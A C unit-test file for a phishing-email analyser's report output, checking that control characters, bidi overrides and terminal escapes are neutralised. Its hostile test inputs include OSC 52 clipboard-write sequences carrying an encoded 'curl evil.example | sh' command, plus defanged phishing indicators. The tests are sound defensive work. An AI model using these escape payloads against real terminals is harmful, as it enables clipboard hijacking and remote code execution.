/* test_report.c — the terminal sanitiser and the text, Markdown, JSON and scan renderings of a report. */
#include "config.h"

#include <check.h>
#include <dirent.h>
#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "analyze.h"
#include "findings.h"
#include "message.h"
#include "report.h"
#include "util.h"

#define SEEDS TEST_CORPUS "/seeds"

/* Clean s and compare with want. */
static void
assert_clean(const char *s, int keep_nl, const char *want)
{
	char *c = report_clean(s, keep_nl);

	ck_assert_str_eq(c, want);
	free(c);
}

START_TEST(clean_controls)
{
	assert_clean("plain text", 0, "plain text");
	assert_clean(NULL, 0, "");
	assert_clean("", 1, "");
	/* C0 as control pictures: ESC U+241B, BEL U+2407, CR U+240D, NUL-free */
	assert_clean("a\x1b[31mred", 0, "a\xe2\x90\x9b[31mred");
	assert_clean("ding\x07", 0, "ding\xe2\x90\x87");
	assert_clean("a\rb", 0, "a\xe2\x90\x8d" "b");
	/* DEL U+2421 */
	assert_clean("x\x7fy", 0, "x\xe2\x90\xa1y");
	/* newline: kept only when asked, else a picture (U+240A) */
	assert_clean("one\ntwo", 0, "one\xe2\x90\x8atwo");
	assert_clean("one\ntwo", 1, "one\ntwo");
	/* tab: a space on one line, kept in multi-line text */
	assert_clean("a\tb", 0, "a b");
	assert_clean("a\tb", 1, "a\tb");
}
END_TEST

START_TEST(clean_unicode)
{
	/* C1 CSI (U+009B, the 8-bit ESC [) */
	assert_clean("a\xc2\x9b" "31m", 0, "a<U+009B>31m");
	assert_clean("\xc2\x80\xc2\x9f", 0, "<U+0080><U+009F>");
	/* bidi override and zero-width space */
	assert_clean("evil\xe2\x80\xae" "gpj.exe", 0, "evil<U+202E>gpj.exe");
	assert_clean("pay\xe2\x80\x8bpal", 0, "pay<U+200B>pal");
	assert_clean("\xef\xbb\xbfx\xe2\x81\xa6y", 0, "<U+FEFF>x<U+2066>y");
	/* the whole unichar table, as the screen shows it: soft hyphen, Hangul filler, tags */
	assert_clean("so\xc2\xad" "ft", 0, "so<U+00AD>ft");
	assert_clean("\xe3\x85\xa4" "x\xf3\xa0\x80\x81", 0, "<U+3164>x<U+E0001>");
	/* invalid UTF-8: each bad byte becomes U+FFFD; a real U+FFFD stays one */
	assert_clean("a\xff" "b", 0, "a\xef\xbf\xbd" "b");
	/* a sequence cut short is one bad character */
	assert_clean("\xe3\x81", 0, "\xef\xbf\xbd");
	assert_clean("\xe3\x81x", 0, "\xef\xbf\xbdx");
	assert_clean("\xc0\xaf", 0, "\xef\xbf\xbd\xef\xbf\xbd");   /* overlong '/' */
	assert_clean("\xef\xbf\xbd", 0, "\xef\xbf\xbd");
	/* ordinary non-ASCII passes through */
	assert_clean("ポケットカード【重要】", 0, "ポケットカード【重要】");
	assert_clean("café ©", 0, "café ©");
}
END_TEST

static char *
seed_path(const char *prefix)
{
	DIR *d = opendir(SEEDS);
	struct dirent *de;
	char *path = NULL;

	ck_assert_ptr_nonnull(d);
	while ((de = readdir(d)) != NULL)
		if (strncmp(de->d_name, prefix, strlen(prefix)) == 0)
			path = xasprintf("%s/%s", SEEDS, de->d_name);
	closedir(d);
	ck_assert_msg(path != NULL, "seed %s not found", prefix);
	return path;
}

static struct report *
analyze_seed(const char *prefix, char **path)
{
	struct report *r = NULL;
	char *cause = NULL;

	*path = seed_path(prefix);
	ck_assert_int_eq(analyze_file(*path, NULL, &r, &cause), 0);
	ck_assert_ptr_nonnull(r);
	return r;
}

static struct report *
analyze_text(const char *text)
{
	struct message *m;
	char *cause = NULL;

	ck_assert_int_eq(message_load_mem(text, strlen(text), "mem", &m, &cause), 0);
	return analyze_message(m, NULL);
}

/*
 * link_offsite: a web link off the sender's registrable domain (and off the
 * claimed brand's and the DKIM signer's) is where the message sends the
 * reader; links to the sender's own site, mailto: and tel: are not; the
 * JSON says which.
 */
static char *render(const struct report *r, enum report_format fmt);

static bool
offsite_of(const char *from, const char *href)
{
	char *text = xasprintf("From: %s\nTo: you@example.jp\nSubject: hello\nDate: Tue, 14 Nov 2023 12:00:00 +0900\n"
	    "Message-ID: <1@x.example>\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n"
	    "<p>Read <a href=\"%s\">this</a>.</p>\n", from, href);
	struct report *r = analyze_text(text);
	char *js = render(r, REPORT_JSON);
	json_t *o = json_loads(js, 0, NULL);
	bool off = r->findings.link_offsite;

	ck_assert_ptr_nonnull(o);
	ck_assert(json_is_boolean(json_object_get(o, "link_offsite")));
	ck_assert(json_is_true(json_object_get(o, "link_offsite")) == off);
	json_decref(o);
	free(js);
	report_free(r);
	free(text);
	return off;
}

START_TEST(link_offsite)
{
	ck_assert(offsite_of("Shop <news@shop.example.com>", "https://evil.example.net/login"));
	ck_assert(offsite_of("Shop <news@shop.example.com>", "http://203.0.113.9/login"));
	ck_assert(offsite_of("Shop <news@shop.example.com>", "https://shop.example.com.evil.example.net/"));
	ck_assert(!offsite_of("Shop <news@shop.example.com>", "https://www.example.com/sale"));
	ck_assert(!offsite_of("Shop <news@shop.example.com>", "https://EXAMPLE.COM/"));
	ck_assert(!offsite_of("Shop <news@shop.example.com>", "mailto:help@evil.example.net"));
	ck_assert(!offsite_of("Shop <news@shop.example.com>", "tel:+81-3-1234-5678"));
	/* a brand named in the display name, linking to the brand's own site */
	ck_assert(!offsite_of("Amazon <info@mail.example.org>", "https://www.amazon.co.jp/"));
	ck_assert(offsite_of("Amazon <info@mail.example.org>", "https://amazon.example.net/"));
}
END_TEST

/* Render r in fmt into a string (caller frees). */
static char *
render(const struct report *r, enum report_format fmt)
{
	char *s = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&s, &len);

	ck_assert_ptr_nonnull(f);
	report_write(f, r, fmt);
	ck_assert_int_eq(fclose(f), 0);
	ck_assert_uint_gt(len, 0);
	ck_assert_uint_eq(strlen(s), len);
	return s;
}

static json_t *
object_with(json_t *o, const char *const *keys)
{
	ck_assert(json_is_object(o));
	for (const char *const *k = keys; *k != NULL; k++)
		ck_assert_msg(json_object_get(o, *k) != NULL, "key %s missing", *k);
	return o;
}

START_TEST(json_line_seed)
{
	static const char *const top[] = { "file", "message_id", "date", "subject", "from", "origin",
		"auth", "links", "findings", "score", "verdict", NULL };
	static const char *const from_keys[] = { "display", "address", "domain", "org_domain", NULL };
	static const char *const origin_keys[] = { "ip", "helo", "rdns", "country", "asn", "as_org", NULL };
	static const char *const auth_keys[] = { "spf", "dkim", "dmarc", "aligned", NULL };
	static const char *const finding_keys[] = { "id", "severity", "where", "span", "title", "evidence", NULL };
	char *path, *line;
	struct report *r = analyze_seed("1770309790", &path);
	json_error_t err;
	json_t *j, *from, *origin, *auth, *fs, *f0, *span;
	int seen_spam = 0, seen_rdns = 0;

	line = report_json_line(r);
	ck_assert_ptr_null(strchr(line, '\n'));
	j = json_loads(line, 0, &err);
	ck_assert_msg(j != NULL, "json: %s", err.text);
	object_with(j, top);
	ck_assert_str_eq(json_string_value(json_object_get(j, "file")), path);
	ck_assert_str_eq(json_string_value(json_object_get(j, "message_id")), "20260206014305.5F3A2C1B@jfmmfn.cn");
	ck_assert_str_eq(json_string_value(json_object_get(j, "date")), "Fri, 6 Feb 2026 01:43:05 +0800");
	ck_assert_str_eq(json_string_value(json_object_get(j, "subject")),
	    "[spam] 最新のお客様情報のご登録をお願いします");

	from = object_with(json_object_get(j, "from"), from_keys);
	ck_assert_str_eq(json_string_value(json_object_get(from, "display")), "ポケットカード");
	ck_assert_str_eq(json_string_value(json_object_get(from, "address")), "mail.qaqrl@jfmmfn.cn");
	ck_assert_str_eq(json_string_value(json_object_get(from, "domain")), "jfmmfn.cn");
	ck_assert_str_eq(json_string_value(json_object_get(from, "org_domain")), "jfmmfn.cn");

	origin = object_with(json_object_get(j, "origin"), origin_keys);
	ck_assert_str_eq(json_string_value(json_object_get(origin, "ip")), "101.47.76.101");
	ck_assert_str_eq(json_string_value(json_object_get(origin, "helo")), "jfmmfn.cn");
	ck_assert(json_is_null(json_object_get(origin, "rdns")));   /* "unknown": no reverse name */

	auth = object_with(json_object_get(j, "auth"), auth_keys);
	ck_assert_str_eq(json_string_value(json_object_get(auth, "spf")), "none");
	ck_assert_str_eq(json_string_value(json_object_get(auth, "dmarc")), "none");
	ck_assert(json_is_false(json_object_get(auth, "aligned")));

	ck_assert(json_is_array(json_object_get(j, "links")));
	fs = json_object_get(j, "findings");
	ck_assert(json_is_array(fs));
	ck_assert_uint_eq(json_array_size(fs), r->findings.n);
	ck_assert_uint_gt(json_array_size(fs), 0);
	for (size_t i = 0; i < json_array_size(fs); i++) {
		json_t *f = object_with(json_array_get(fs, i), finding_keys);
		const char *id = json_string_value(json_object_get(f, "id"));
		ck_assert_int_ge(finding_from_name(id), 0);
		ck_assert_int_ge(severity_name(SEV_INFO) != NULL, 1);
		seen_spam += strcmp(id, "SUBJECT_SPAM_TAG") == 0;
		seen_rdns += strcmp(id, "ORIGIN_NO_RDNS") == 0;
	}
	ck_assert_int_ge(seen_spam, 1);
	ck_assert_int_eq(seen_rdns, 1);
	f0 = json_array_get(fs, 0);
	ck_assert_str_eq(json_string_value(json_object_get(f0, "id")), "SUBJECT_SPAM_TAG");
	ck_assert_str_eq(json_string_value(json_object_get(f0, "severity")), "medium");
	ck_assert_str_eq(json_string_value(json_object_get(f0, "where")), "header:Subject");
	span = json_object_get(f0, "span");
	ck_assert(json_is_array(span));
	ck_assert_int_eq(json_integer_value(json_array_get(span, 0)), 0);
	ck_assert_int_eq(json_integer_value(json_array_get(span, 1)), 6);
	ck_assert_ptr_nonnull(strstr(json_string_value(json_object_get(f0, "evidence")), "[spam]"));

	ck_assert_int_eq(json_integer_value(json_object_get(j, "score")), r->score);
	ck_assert_str_eq(json_string_value(json_object_get(j, "verdict")), verdict_name(r->verdict));
	ck_assert_str_eq(verdict_name(r->verdict), "phishing");
	/* the links, defanged */
	ck_assert_str_eq(json_string_value(json_object_get(json_array_get(json_object_get(j, "links"), 0), "defanged")),
	    "hXXps://reflecto[.]cpvvl[.]cn/netsvice/logino/");
	json_decref(j);
	free(line);

	/* the pretty form carries the same object */
	line = render(r, REPORT_JSON);
	j = json_loads(line, 0, &err);
	ck_assert_msg(j != NULL, "json: %s", err.text);
	object_with(j, top);
	ck_assert_str_eq(json_string_value(json_object_get(json_object_get(j, "origin"), "ip")), "101.47.76.101");
	json_decref(j);
	free(line);
	report_free(r);
	free(path);
}
END_TEST

START_TEST(scan_lines)
{
	char *path, *line;
	struct report *r = analyze_seed("1770309790", &path);
	json_error_t err;
	json_t *j;

	line = report_scan_line(r, "cur/1770309790.M101P4242.mx.example.com,S=4096:2,");
	ck_assert_msg(strncmp(line, "phishing ", 9) == 0, "line \"%s\"", line);
	/* each id once, in order */
	ck_assert_ptr_nonnull(strstr(line, "  SUBJECT_SPAM_TAG,ORIGIN_NO_RDNS,FROM_BRAND_MISMATCH,FROM_RISKY_TLD,LINK_BRAND_MISMATCH,LINK_RISKY_TLD,"));
	ck_assert_ptr_nonnull(strstr(line, ",TEXT_TYPO,TEXT_URGENCY  "));
	ck_assert_ptr_nonnull(strstr(line, "cur/1770309790.M101P4242"));
	ck_assert_ptr_nonnull(strstr(line, "[spam] 最新のお客様情報"));
	ck_assert_ptr_null(strchr(line, '\n'));
	free(line);
	report_free(r);
	free(path);

	/* a clean message has "-" for its ids */
	r = analyze_text("Received: from localhost (localhost [127.0.0.1]) by mx.example.com with ESMTP id 1;"
	    " Mon, 1 Jan 2024 00:00:00 +0000\n"
	    "Authentication-Results: mx.example.com; spf=pass smtp.mailfrom=a@example.com;"
	    " dkim=pass header.d=example.com; dmarc=pass header.from=example.com\n"
	    "From: A <a@example.com>\nSubject: hello\nMessage-ID: <1@example.com>\n\nhi\n");
	line = report_scan_line(r, "m1");
	ck_assert_msg(strncmp(line, "clean ", 6) == 0, "line \"%s\"", line);
	ck_assert_ptr_nonnull(strstr(line, "  m1  -  hello"));
	free(line);
	report_free(r);

	line = report_scan_error_line("cur/bad:2,", "empty file", 0);
	ck_assert_msg(strncmp(line, "error ", 6) == 0, "line \"%s\"", line);
	ck_assert_ptr_nonnull(strstr(line, "cur/bad:2,"));
	ck_assert_ptr_nonnull(strstr(line, "empty file"));
	free(line);

	line = report_scan_error_line("cur/bad:2,", "empty file", 1);
	j = json_loads(line, 0, &err);
	ck_assert_msg(j != NULL, "json: %s", err.text);
	ck_assert_str_eq(json_string_value(json_object_get(j, "file")), "cur/bad:2,");
	ck_assert_str_eq(json_string_value(json_object_get(j, "verdict")), "error");
	ck_assert_str_eq(json_string_value(json_object_get(j, "error")), "empty file");
	json_decref(j);
	free(line);

	/* hostile names in both forms */
	line = report_scan_error_line("x\x1b]0;title\x07.eml", "bad\x1b[2J", 0);
	ck_assert_ptr_null(strchr(line, '\x1b'));
	ck_assert_ptr_null(strchr(line, '\x07'));
	free(line);
	line = report_scan_error_line("x\x1b]0;title\x07.eml", "bad\xff", 1);
	ck_assert_ptr_null(strchr(line, '\x1b'));
	j = json_loads(line, 0, &err);
	ck_assert_msg(j != NULL, "json: %s", err.text);
	ck_assert_str_eq(json_string_value(json_object_get(j, "file")), "x\x1b]0;title\x07.eml");
	json_decref(j);
	free(line);
}
END_TEST

/* A seed's report rendered in fmt (caller frees); its verdict to *v. */
static char *
seed_rendered(const char *prefix, enum report_format fmt, enum verdict *v)
{
	char *path, *s;
	struct report *r = analyze_seed(prefix, &path);

	s = render(r, fmt);
	*v = r->verdict;
	report_free(r);
	free(path);
	return s;
}

/* The Payload row: what a phishing verdict can harm with, or why a score past the threshold stays suspicious. */
START_TEST(payload_row)
{
	static const struct {
		const char *seed;
		enum report_format fmt;
		enum verdict v;
		const char *want;   /* NULL: no Payload row */
	} cases[] = {
		{ "1770309790", REPORT_TEXT, VERDICT_PHISHING, "\nPayload         LINK_BRAND_MISMATCH, LINK_RISKY_TLD, "
		    "link[1] to reflecto[.]cpvvl[.]cn leaves the sender's and the brand's domains\n" },
		{ "1770309790", REPORT_MARKDOWN, VERDICT_PHISHING, "| Payload | LINK\\_BRAND\\_MISMATCH" },
		/* the spoofed prank: past the threshold, nothing to harm with */
		{ "1764487212", REPORT_TEXT, VERDICT_SUSPICIOUS, "\nPayload         none: " },
		/* a clean message has no such row */
		{ "1639558840", REPORT_TEXT, VERDICT_CLEAN, NULL },
	};

	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		enum verdict v;
		char *s = seed_rendered(cases[i].seed, cases[i].fmt, &v);

		ck_assert_int_eq(v, cases[i].v);
		if (cases[i].want != NULL)
			ck_assert_msg(strstr(s, cases[i].want) != NULL, "%s: %s", cases[i].seed, s);
		else
			ck_assert_msg(strstr(s, "Payload") == NULL, "%s: %s", cases[i].seed, s);
		free(s);
	}
}
END_TEST

START_TEST(text_and_markdown)
{
	char *path, *s;
	struct report *r = analyze_seed("1770309790", &path);

	s = render(r, REPORT_TEXT);
	ck_assert_ptr_nonnull(strstr(s, "File "));
	ck_assert_ptr_nonnull(strstr(s, path));
	ck_assert_ptr_nonnull(strstr(s, "Verdict "));
	ck_assert_ptr_nonnull(strstr(s, "phishing (score "));
	ck_assert_ptr_nonnull(strstr(s, "hXXps://reflecto[.]cpvvl[.]cn/netsvice/logino/"));
	ck_assert_ptr_nonnull(strstr(s, "Subject "));
	ck_assert_ptr_nonnull(strstr(s, "ポケットカード <mail.qaqrl@jfmmfn.cn>"));
	ck_assert_ptr_nonnull(strstr(s, "Origin "));
	ck_assert_ptr_nonnull(strstr(s, "101.47.76.101 (HELO jfmmfn.cn"));
	ck_assert_ptr_nonnull(strstr(s, "Auth "));
	ck_assert_ptr_nonnull(strstr(s, "SPF none"));
	ck_assert_ptr_nonnull(strstr(s, "authserv-id mx.example.com"));
	ck_assert_ptr_nonnull(strstr(s, "\nFindings\n"));
	ck_assert_ptr_nonnull(strstr(s, "SUBJECT_SPAM_TAG"));
	ck_assert_ptr_nonnull(strstr(s, "ORIGIN_NO_RDNS"));
	ck_assert_ptr_nonnull(strstr(s, "header:Received[2]"));
	ck_assert_ptr_nonnull(strstr(s, "Received chain (newest first)"));
	ck_assert_ptr_nonnull(strstr(s, "origin"));
	free(s);

	s = render(r, REPORT_MARKDOWN);
	ck_assert_msg(strncmp(s, "## kensa report: ", 17) == 0, "%s", s);
	/* Markdown specials in message text are escaped */
	ck_assert_ptr_nonnull(strstr(s, "\\[spam\\] 最新のお客様情報"));
	ck_assert_ptr_nonnull(strstr(s, "**Verdict:** phishing"));
	ck_assert_ptr_nonnull(strstr(s, "| Field | Value |\n|---|---|\n"));
	ck_assert_ptr_nonnull(strstr(s, "| From | ポケットカード \\<mail.qaqrl@jfmmfn.cn\\> |"));
	ck_assert_ptr_nonnull(strstr(s, "| Origin | 101.47.76.101"));
	ck_assert_ptr_nonnull(strstr(s, "### Findings"));
	ck_assert_ptr_nonnull(strstr(s, "| medium | `SUBJECT_SPAM_TAG` |"));
	ck_assert_ptr_nonnull(strstr(s, "`ORIGIN_NO_RDNS`"));
	ck_assert_ptr_nonnull(strstr(s, "### Received chain (newest first)"));
	ck_assert_ptr_nonnull(strstr(s, "`101.47.76.101`"));
	free(s);
	report_free(r);
	free(path);
}
END_TEST

/* No C0 escape reaches any output: no ESC, no BEL. */
static void
assert_no_escape(const char *what, const char *s)
{
	ck_assert_msg(strchr(s, '\x1b') == NULL, "ESC in %s: %s", what, s);
	ck_assert_msg(strchr(s, '\x07') == NULL, "BEL in %s", what);
}

/* Terminal text also shows C1 controls and bidi overrides as markers. */
static void
assert_inert(const char *what, const char *s)
{
	assert_no_escape(what, s);
	ck_assert_msg(strstr(s, "\xc2\x9b") == NULL, "CSI in %s", what);
	ck_assert_msg(strstr(s, "\xe2\x80\xae") == NULL, "RLO in %s", what);
}

START_TEST(hostile_text_never_escapes)
{
	/* OSC 52 would write the clipboard; CSI 2J clears the screen; RLO reorders */
	static const char *const msgs[] = {
		"Received: from evil\x1b[2J (evil [203.0.113.9]) by mx.example.com with SMTP;"
		" Mon, 1 Jan 2024 00:00:00 +0000\n"
		"From: \"Bank\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\" <a@bank.example>\n"
		"Reply-To: \"\xe2\x80\xae" "evil\" <r@evil.example>\n"
		"Subject: \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 urgent \x1b[2J\x1b[31mred\xc2\x9b" "0m\n"
		"Date: Mon, 1 Jan 2024 00:00:00 +0000\x1b[8m\n"
		"Message-ID: <x\x1b[5m@evil.example>\n"
		"\nbody\n",
		/* the same sequences inside encoded words */
		"From: =?utf-8?q?Bank=1B]52;c;Zm9v=07?= <a@bank.example>\n"
		"Subject: [SPAM] =?utf-8?q?=1B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=3D=3D=07_hi_=1B[2J?=\n"
		"X-Spam-Status: Yes, score=9 \x1b]52;c;Zm9v\x07\n"
		"\nbody\n",
		/*
		 * An attacker-chosen charset label that iconv accepts ("//"
		 * starts iconv's suffixes) and that the "undecodable bytes in
		 * charset %s" notice quotes.
		 */
		"From: <a@bank.example>\nSubject: x\nMIME-Version: 1.0\n"
		"Content-Type: text/plain; charset=\"utf-8//\x1b]52;c;Zm9v\x07\"\n"
		"\ncaf\xe9 d\xe9j\xe0 vu \xff\n",
	};

	for (size_t i = 0; i < sizeof msgs / sizeof msgs[0]; i++) {
		struct report *r = analyze_text(msgs[i]);
		char *s;
		json_t *j;
		json_error_t err;

		s = render(r, REPORT_TEXT);
		assert_inert("text", s);
		if (i == 2) {
			/* the notice is there, its label made visible */
			ck_assert_uint_ge(r->nnotices, 1);
			ck_assert_ptr_nonnull(strstr(s, "undecodable bytes in charset utf-8//\xe2\x90\x9b]52;c;Zm9v\xe2\x90\x87"));
		}
		free(s);
		s = render(r, REPORT_MARKDOWN);
		assert_inert("markdown", s);
		free(s);
		s = report_scan_line(r, "cur/evil\x1b[2J:2,");
		assert_inert("scan line", s);
		free(s);
		/* JSON escapes controls (\u001b) and stays valid */
		s = report_json_line(r);
		assert_no_escape("json line", s);
		j = json_loads(s, 0, &err);
		ck_assert_msg(j != NULL, "json: %s", err.text);
		json_decref(j);
		free(s);
		s = render(r, REPORT_JSON);
		assert_no_escape("json", s);
		free(s);
		report_free(r);
	}
}
END_TEST

/* A passed-over hop is "passed-over" in JSON and text; the webmail client is "submitted_from", with who vouches for it. */
START_TEST(passed_over_and_submitted)
{
	struct report *r = analyze_text(
	    "Received: from localhost (localhost [127.0.0.1]) by mx.example.com (Postfix) with ESMTP id A; Mon, 1 Jan 2024 10:00:05 +0000\n"
	    "Received: from relay.example.org by mx.example.com with SMTP; Mon, 1 Jan 2024 10:00:04 +0000\n"
	    "Received: from webmail.example.net (webmail.example.net [198.51.100.10]) by relay.example.org (Postfix) with ESMTPS id B; Mon, 1 Jan 2024 10:00:03 +0000\n"
	    "X-Originating-IP: [203.0.113.77]\n"
	    "From: <a@example.net>\nSubject: x\n\nbody\n");
	char *line = report_json_line(r), *text;
	json_error_t err;
	json_t *j = json_loads(line, 0, &err), *hops, *sub;

	ck_assert_msg(j != NULL, "json: %s", err.text);
	hops = json_object_get(j, "hops");
	ck_assert_str_eq(json_string_value(json_object_get(json_array_get(hops, 0), "trust")), "trusted");
	ck_assert_str_eq(json_string_value(json_object_get(json_array_get(hops, 1), "trust")), "passed-over");
	ck_assert_str_eq(json_string_value(json_object_get(json_array_get(hops, 2), "trust")), "origin");
	sub = json_object_get(j, "submitted_from");
	ck_assert(json_is_object(sub));
	ck_assert_str_eq(json_string_value(json_object_get(sub, "ip")), "203.0.113.77");
	ck_assert_str_eq(json_string_value(json_object_get(sub, "source")), "X-Originating-IP");
	ck_assert_str_eq(json_string_value(json_object_get(sub, "trust")), "origin-server");
	ck_assert(json_object_get(sub, "country") != NULL && json_object_get(sub, "asn") != NULL &&
	    json_object_get(sub, "as_org") != NULL);
	json_decref(j);
	free(line);
	text = render(r, REPORT_TEXT);
	ck_assert_ptr_nonnull(strstr(text, "passed over"));
	ck_assert_ptr_nonnull(strstr(text, "203.0.113.77"));
	ck_assert_ptr_nonnull(strstr(text, "stated by the origin server"));
	free(text);
	text = render(r, REPORT_MARKDOWN);
	ck_assert_ptr_nonnull(strstr(text, "| Submitted from | 203.0.113.77"));
	free(text);
	report_free(r);

	/* none: null */
	r = analyze_text("From: <a@example.net>\nSubject: x\n\nbody\n");
	line = report_json_line(r);
	j = json_loads(line, 0, &err);
	ck_assert(json_is_null(json_object_get(j, "submitted_from")));
	json_decref(j);
	free(line);
	report_free(r);
}
END_TEST

/* Delays as people read them, in the report and the Received view. */
START_TEST(durations)
{
	static const struct {
		long s;
		const char *want;
	} cases[] = {
		{ 0, "0s" }, { 1, "1s" }, { 59, "59s" }, { 60, "1m" }, { 250, "4m 10s" }, { 3599, "59m 59s" },
		{ 3600, "1h" }, { 3660, "1h 01m" }, { 86399, "23h 59m" }, { 86400, "1d" }, { 90061, "1d 1h" },
		{ 129600, "1d 12h" }, { 864000, "10d" }, { -5, "-5s" }, { -129600, "-1d 12h" },
	};
	char buf[32];

	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
		ck_assert_str_eq(util_duration(cases[i].s, buf, sizeof buf), cases[i].want);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("report");
	TCase *tc = tcase_create("core");
	SRunner *sr;
	int failed;

	message_init();
	tcase_add_test(tc, clean_controls);
	tcase_add_test(tc, clean_unicode);
	tcase_add_test(tc, json_line_seed);
	tcase_add_test(tc, passed_over_and_submitted);
	tcase_add_test(tc, scan_lines);
	tcase_add_test(tc, text_and_markdown);
	tcase_add_test(tc, hostile_text_never_escapes);
	tcase_add_test(tc, durations);
	tcase_add_test(tc, link_offsite);
	tcase_add_test(tc, payload_row);
	suite_add_tcase(s, tc);
	sr = srunner_create(s);
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? 0 : 1;
}
